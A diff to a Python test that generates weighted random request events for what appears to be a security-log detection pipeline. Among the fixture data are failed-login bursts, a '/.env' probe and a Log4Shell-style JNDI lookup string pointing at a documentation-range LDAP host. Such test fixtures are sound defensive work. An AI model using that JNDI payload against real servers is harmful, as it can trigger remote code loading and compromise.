@@ -209,26 +209,27 @@ def test_what_hangs_goes_to_another_worker() -> None:
 
 # Order, batches, redelivery
 
-NETWORKS = ["203.0.113.9", "203.0.113.10", "198.51.100.77", "2001:db8:1:2::/64"]
-KINDS: list[dict[str, Any]] = [
-    {"method": "POST", "path": "/login", "kind": "login", "status": 401, "outcome": "login_failed", "account": "ada"},
-    {"method": "POST", "path": "/login", "kind": "login", "status": 401, "outcome": "login_failed", "account": "eve"},
-    {"path": "/.env", "route": "", "status": 404},
-    {"path": "/?x=${jndi:ldap://198.51.100.7/a}", "status": 200},
-    {"path": "/products/7", "status": 200},
+NETWORKS = {"203.0.113.9": 6, "2001:db8:1:2::/64": 3, "203.0.113.10": 1, "198.51.100.77": 1}
+LOGIN = {"method": "POST", "path": "/login", "kind": "login", "status": 401, "outcome": "login_failed"}
+KINDS: list[tuple[int, dict[str, Any]]] = [
+    (4, LOGIN | {"account": "ada"}),
+    (2, LOGIN | {"account": "eve"}),
+    (1, {"path": "/.env", "route": "", "status": 404}),
+    (1, {"path": "/", "query": "x=${jndi:ldap://198.51.100.7/a}"}),
+    (1, {"path": "/products/7"}),
+    (6, {"path": "/missing-", "route": "", "status": 404}),
 ]
 
 
 def random_events(chance: random.Random, number: int = 300) -> list[Event]:
-    """Bursts of an hour and a half around a full hour: most windows lie across others' edges."""
-    start, events = NOON - timedelta(minutes=40), []
-    for _ in range(number):
-        at = start + timedelta(minutes=8 * chance.randrange(12), seconds=chance.randrange(90))
-        fields = chance.choice(
-            [*KINDS, {"path": f"/missing-{chance.choice('abcdefghijklmnopqrstuvw')}", "status": 404}]
-        )
-        missing = {"route": ""} if fields["status"] == 404 else {}
-        events.append(event(at, chance.choice(NETWORKS), **(fields | missing)))
+    """Bursts on both sides of a full hour: most windows lie across the edges of batches, some across the hour."""
+    weights, kinds = zip(*KINDS, strict=True)
+    networks = chance.choices(list(NETWORKS), list(NETWORKS.values()), k=number)
+    events = []
+    for network, fields in zip(networks, chance.choices(kinds, weights, k=number), strict=True):
+        at = NOON + timedelta(minutes=chance.choice([-40, -1, 3, 61]), seconds=chance.randrange(90))
+        distinct = chance.choice("abcdefghijklmnopqrstuvw") if fields["path"].endswith("-") else ""
+        events.append(event(at, network, **(fields | {"path": fields["path"] + distinct})))
     return events
 
 
